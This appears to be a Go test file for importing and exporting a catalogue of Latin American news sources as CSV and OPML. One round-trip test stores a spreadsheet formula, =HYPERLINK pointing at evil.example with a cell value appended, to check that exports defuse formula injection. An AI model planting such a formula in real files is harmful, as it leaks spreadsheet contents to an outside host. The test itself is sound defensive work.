package sources_test

import (
	"bytes"
	"context"
	"errors"
	"maps"
	"path/filepath"
	"reflect"
	"slices"
	"strings"
	"testing"
	"time"

	"observatory"
	"observatory/sources"
	"observatory/store"
)

func openStore(t testing.TB) *store.DB {
	t.Helper()
	db, err := store.Open(filepath.Join(t.TempDir(), "observatory.db"), store.Options{})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { db.Close() })
	return db
}

func all(t *testing.T, db *store.DB) []observatory.Source {
	t.Helper()
	srcs, err := db.Sources(context.Background(), observatory.SourceFilter{})
	if err != nil {
		t.Fatal(err)
	}
	return srcs
}

func importString(t *testing.T, db *store.DB, data, format string) sources.Report {
	t.Helper()
	rep, err := sources.Import(context.Background(), db, strings.NewReader(data), format, "tester")
	if err != nil {
		t.Fatalf("Import: %v", err)
	}
	return rep
}

func checkCounts(t *testing.T, what string, rep sources.Report, created, updated, unchanged, errs int) {
	t.Helper()
	if rep.Created != created || rep.Updated != updated || rep.Unchanged != unchanged || len(rep.Errors) != errs {
		t.Errorf("%s: got %d created, %d updated, %d unchanged, %d errors (%v); want %d, %d, %d, %d",
			what, rep.Created, rep.Updated, rep.Unchanged, len(rep.Errors), rep.Errors, created, updated, unchanged, errs)
	}
}

// equalRecords compares what a person entered, not who stored it when.
func equalRecords(t *testing.T, got, want []observatory.Source) {
	t.Helper()
	if len(got) != len(want) {
		t.Fatalf("got %d sources, want %d", len(got), len(want))
	}
	byID := make(map[string]observatory.Source)
	for _, s := range got {
		byID[s.ID] = s
	}
	for _, w := range want {
		g, ok := byID[w.ID]
		if !ok {
			t.Errorf("source %s missing", w.ID)
			continue
		}
		if !sameRecord(g, w) {
			t.Errorf("source %s:\n got %+v\nwant %+v", w.ID, g, w)
		}
	}
}

func sameRecord(a, b observatory.Source) bool {
	for _, s := range []*observatory.Source{&a, &b} {
		s.CreatedAt, s.UpdatedAt, s.CreatedBy, s.UpdatedBy = time.Time{}, time.Time{}, "", ""
		if len(s.Listings) == 0 {
			s.Listings = nil
		}
	}
	return reflect.DeepEqual(a, b)
}

const header = "id,name,country,medium,scope,languages,homepage,feeds,sitemaps,focus,owner,active,schedule,verified,evidence,notes,listings\n"

func TestCSVHeader(t *testing.T) {
	var buf bytes.Buffer
	if err := sources.Export(&buf, nil, "csv"); err != nil {
		t.Fatal(err)
	}
	if got := buf.String(); got != header {
		t.Errorf("header = %q, want %q", got, header)
	}
	if !strings.HasPrefix(header, "id,name,country,medium,") || !strings.Contains(header, ",homepage,feeds,") {
		t.Errorf("header %q does not follow DESIGN.md (id,name,country,medium,…,homepage,feeds)", header)
	}
}

func TestImportCSVWithBadRows(t *testing.T) {
	db := openStore(t)
	file := header +
		"cr-delfino,Delfino.cr,CR,online,national,es,https://delfino.cr/,https://delfino.cr/feed https://delfino.cr/feed/,https://delfino.cr/sitemaps/news.xml,general,,true,,true,seen live,\"a note, with a comma\",\n" +
		",Radio Progreso,HN,radio,,es en,https://radioprogresohn.net/,https://radioprogresohn.net/feed/,,human-rights,ERIC-SJ,,*/15 * * * *,false,,,\"https://radioprogresohn.net/noticias/ h2 a\nhttps://radioprogresohn.net/migracion/ .title a\"\n" +
		"mx-x,Excélsior,MX,diario,,es,excelsior.com.mx,,,,,,,,,,\n" + // line 5 (the cell above spans 3-4): three bad fields
		"pa-bad-active,La Prensa,PA,print,,es,https://www.prensa.com/,,,,,maybe,,,,,\n" + // line 6: bad boolean
		"cr-dup,Delfino otra vez,CR,online,,es,https://www.delfino.cr,,,,,,,,,,\n" + // line 7: same homepage as line 2
		"short,row\n" + // line 8: wrong number of cells
		"\n" +
		"do-acento,Acento,DO,online,,es,https://acento.com.do/,https://acento.com.do/feed/,,,,false,,,,,\n"
	rep := importString(t, db, file, "")
	checkCounts(t, "first import", rep, 3, 0, 0, 4)

	wantErr := []struct {
		line   int
		fields []string
		is     error
	}{
		{5, []string{"country", "homepage", "medium"}, observatory.ErrInvalid},
		{6, []string{"active"}, observatory.ErrInvalid},
		{7, nil, observatory.ErrConflict},
		{8, nil, observatory.ErrInvalid},
	}
	for i, w := range wantErr {
		if i >= len(rep.Errors) {
			break
		}
		e := rep.Errors[i]
		if e.Line != w.line {
			t.Errorf("error %d: line %d, want %d (%v)", i, e.Line, w.line, e)
		}
		if !errors.Is(e.Err, w.is) {
			t.Errorf("line %d: %v, want it to wrap %v", e.Line, e.Err, w.is)
		}
		var ve *observatory.ValidationError
		if w.fields != nil {
			if !errors.As(e.Err, &ve) {
				t.Errorf("line %d: %v is not a field-level error", e.Line, e.Err)
			} else if got := slices.Sorted(maps.Keys(ve.Fields)); !slices.Equal(got, w.fields) {
				t.Errorf("line %d: fields %v, want %v", e.Line, got, w.fields)
			}
		}
		if s := e.String(); !strings.Contains(s, "línea") || !strings.Contains(s, "line") {
			t.Errorf("line %d: message %q does not name the line in Spanish and English", e.Line, s)
		}
	}

	srcs := all(t, db)
	got := make(map[string]observatory.Source)
	for _, s := range srcs {
		got[s.ID] = s
	}
	delfino, ok := got["cr-delfino"]
	if !ok {
		t.Fatalf("cr-delfino not created; have %v", slices.Collect(maps.Keys(got)))
	}
	if want := []string{"https://delfino.cr/feed", "https://delfino.cr/feed/"}; !slices.Equal(delfino.Feeds, want) {
		t.Errorf("delfino feeds = %q, want %q", delfino.Feeds, want)
	}
	if delfino.Notes != "a note, with a comma" || !delfino.Verified || !delfino.Active || delfino.CreatedBy != "tester" {
		t.Errorf("delfino = %+v", delfino)
	}
	progreso, ok := got["hn-radio-progreso"]
	if !ok {
		t.Fatalf("a row without id gets the store's id; have %v", slices.Collect(maps.Keys(got)))
	}
	if want := []string{"es", "en"}; !slices.Equal(progreso.Languages, want) {
		t.Errorf("languages = %q, want %q", progreso.Languages, want)
	}
	if !progreso.Active {
		t.Errorf("a new source with an empty active cell should be active")
	}
	if len(progreso.Listings) != 2 || progreso.Listings[1].LinkSelector != ".title a" {
		t.Errorf("listings = %+v", progreso.Listings)
	}
	if got["do-acento"].Active {
		t.Errorf("acento: active=false was not kept")
	}

	// The same file again changes nothing, and reports the same bad rows.
	rep = importString(t, db, file, "csv")
	checkCounts(t, "second import", rep, 0, 0, 3, 4)
	after := all(t, db)
	for i := range after {
		if !after[i].UpdatedAt.Equal(srcs[i].UpdatedAt) {
			t.Errorf("%s was rewritten by an identical import", after[i].ID)
		}
	}
}

func TestImportCSVMatchesAndPartialColumns(t *testing.T) {
	db := openStore(t)
	importString(t, db, header+
		"gt-prensa-libre,Prensa Libre,GT,print,,es,https://www.prensalibre.com/,https://www.prensalibre.com/feed/,,general,,true,,true,ev,n,\n", "csv")

	tests := []struct {
		name  string
		file  string
		check func(s observatory.Source) string
		count [4]int // created, updated, unchanged, errors
	}{
		{"by homepage without www, semicolons, deactivates", "homepage;active\nhttps://prensalibre.com;no\n",
			func(s observatory.Source) string {
				if s.Active || s.Name != "Prensa Libre" || len(s.Feeds) != 1 || s.Homepage != "https://prensalibre.com" {
					return "want active and the homepage's spelling changed, the rest kept"
				}
				return ""
			}, [4]int{0, 1, 0, 0}},
		{"by id, clears the feeds", "id,feeds\ngt-prensa-libre,\n",
			func(s observatory.Source) string {
				if len(s.Feeds) != 0 || s.Homepage != "https://prensalibre.com" {
					return "want feeds cleared, homepage kept"
				}
				return ""
			}, [4]int{0, 1, 0, 0}},
		{"unknown id without homepage", "id,name\ngt-nope,Nope\n", nil, [4]int{0, 0, 0, 1}},
		{"BOM and upper-case header", "\uFEFFID,Name,Homepage\ngt-prensa-libre,Prensa Libre,https://prensalibre.com\n", nil, [4]int{0, 0, 1, 0}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			rep := importString(t, db, tt.file, "csv")
			checkCounts(t, tt.name, rep, tt.count[0], tt.count[1], tt.count[2], tt.count[3])
			s, err := db.Source(context.Background(), "gt-prensa-libre")
			if err != nil {
				t.Fatal(err)
			}
			if tt.check != nil {
				if msg := tt.check(*s); msg != "" {
					t.Errorf("%s: got %+v", msg, *s)
				}
			}
		})
	}
}

func TestImportFileErrors(t *testing.T) {
	db := openStore(t)
	tests := []struct{ name, file, format string }{
		{"empty", "", "csv"},
		{"unknown column", "id,name,colour\n", "csv"},
		{"no id nor homepage", "name,country\nX,CR\n", "csv"},
		{"unknown format", "id\n", "xlsx"},
		{"not opml", "<html><body></body></html>", "opml"},
		{"broken xml", "<opml><body><outline text='a'></body>", ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			rep, err := sources.Import(context.Background(), db, strings.NewReader(tt.file), tt.format, "t")
			if !errors.Is(err, observatory.ErrInvalid) {
				t.Errorf("Import = %v, want ErrInvalid", err)
			}
			if rep.Created+rep.Updated != 0 {
				t.Errorf("report %v, want nothing saved", rep)
			}
		})
	}
	if n := len(all(t, db)); n != 0 {
		t.Errorf("%d sources saved by bad files, want 0", n)
	}
}

// Every field survives export and import, in both formats.
func TestRoundTrip(t *testing.T) {
	in := []observatory.Source{
		{ID: "cr-a", Name: "A, \"quoted\" <b>&</b>", Country: "CR", Medium: "tv", Scope: "local", Languages: []string{"es", "en"},
			Homepage: "https://a.example/", Feeds: []string{"https://a.example/feed", "https://a.example/rss?x=1&y=2"},
			Sitemaps: []string{"https://a.example/news.xml"}, Focus: "migration", Owner: "Grupo A", Active: true,
			Schedule: "0 * * * *", Verified: true, Evidence: "seen\non two lines", Notes: "ñandú, acentos",
			Listings: []observatory.Listing{{URL: "https://a.example/list", LinkSelector: "article h2 > a"}, {URL: "https://a.example/b", LinkSelector: ".t a"}}},
		// cells a spreadsheet would run as formulas
		{ID: "gt-c", Name: `=HYPERLINK("https://evil.example/?"&A1,"C")`, Country: "GT", Medium: "online", Homepage: "https://c.example/",
			Languages: []string{"es"}, Owner: "@grupo", Notes: "+502 2411-1111", Evidence: "-1 fuente"},
		{ID: "ni-b", Name: "B", Country: "NI", Medium: "online", Homepage: "https://b.example/", Languages: []string{"es"}},
	}
	for i := range in {
		in[i].Normalize()
	}
	for _, format := range []string{"csv", "opml"} {
		t.Run(format, func(t *testing.T) {
			db := openStore(t)
			var buf bytes.Buffer
			if err := sources.Export(&buf, in, format); err != nil {
				t.Fatal(err)
			}
			if format == "csv" && (!strings.Contains(buf.String(), `"'=HYPERLINK(`) || strings.Contains(buf.String(), ",@grupo")) {
				t.Errorf("formula cells not defused:\n%s", buf.String())
			}
			rep := importString(t, db, buf.String(), "")
			checkCounts(t, "import", rep, len(in), 0, 0, 0)
			equalRecords(t, all(t, db), in)

			var again bytes.Buffer
			if err := sources.Export(&again, all(t, db), format); err != nil {
				t.Fatal(err)
			}
			if again.String() != buf.String() {
				t.Errorf("export of the imported sources differs:\n%s\nwant\n%s", again.String(), buf.String())
			}
		})
	}
}

func TestChanges(t *testing.T) {
	a := validSource()
	a.Normalize()
	b := a
	b.Feeds = []string{"https://semanariouniversidad.com/rss"}
	b.Active = true
	b.UpdatedBy = "someone"
	if got, want := sources.Changes(&a, &a), []string(nil); !slices.Equal(got, want) {
		t.Errorf("Changes(a, a) = %v, want none", got)
	}
	if got, want := sources.Changes(&a, &b), []string{"feeds", "active"}; !slices.Equal(got, want) {
		t.Errorf("Changes = %v, want %v", got, want)
	}
}
